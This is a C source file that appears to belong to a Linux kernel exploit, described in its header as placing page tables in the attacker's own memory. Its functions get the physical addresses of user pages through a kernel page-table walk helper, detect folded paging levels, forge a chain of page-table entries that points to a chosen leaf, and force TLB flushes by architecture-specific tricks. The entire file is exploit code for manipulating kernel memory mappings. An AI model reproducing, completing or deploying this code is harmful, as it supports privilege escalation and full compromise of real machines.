// SPDX-License-Identifier: GPL-2.0-only
/* Page tables in the attacker's own memory. */
#include <sys/mman.h>
#include <sys/wait.h>
#include <unistd.h>

#include "attack.h"

#define FLUSH_PAGES	64	/* above the kernel's limit for single flushes */

uint64_t user_page(void **page)
{
	struct slot slot;

	*page = mmap(NULL, PAGE_SIZE, PROT_READ | PROT_WRITE,
		     MAP_PRIVATE | MAP_ANONYMOUS | MAP_POPULATE, -1, 0);
	if (*page == MAP_FAILED || kwalk((uint64_t)*page, LEAF, 0, &slot))
		return 0;
	return slot.phys;
}

int top_level(void)
{
	struct slot pgd, lower;
	int level = LEVEL_PGD;

	kwalk(text_address(), LEVEL_PGD, 0, &pgd);
	/* A level that is folded has its entry in the table above. */
	while (!kwalk(text_address(), level - 1, 0, &lower) && lower.slot == pgd.slot)
		level--;
	return level;
}

uint64_t forge_tables(uint64_t leaf)
{
	uint64_t value = leaf;
	uint64_t phys, *table;
	int level;

	for (level = LEVEL_PTE; level < top_level(); level++) {
		phys = user_page((void **)&table);
		if (!phys)
			return 0;
		table[0] = value;
		value = phys | PTE_TABLE;
	}
	return value;
}

uint64_t top_level_size(void)
{
	return entry_size(top_level());
}

#ifdef __x86_64__
/* More pages than the kernel flushes one by one: it flushes everything. */
void flush_tlb(void)
{
	size_t size = FLUSH_PAGES * PAGE_SIZE;
	char *pages = mmap(NULL, size, PROT_READ | PROT_WRITE,
			   MAP_PRIVATE | MAP_ANONYMOUS | MAP_POPULATE, -1, 0);

	mprotect(pages, size, PROT_READ);
	munmap(pages, size);
}
#else
/* fork() takes all write permissions away. */
void flush_tlb(void)
{
	pid_t pid = fork();

	if (!pid)
		_exit(0);
	waitpid(pid, NULL, 0);
}
#endif
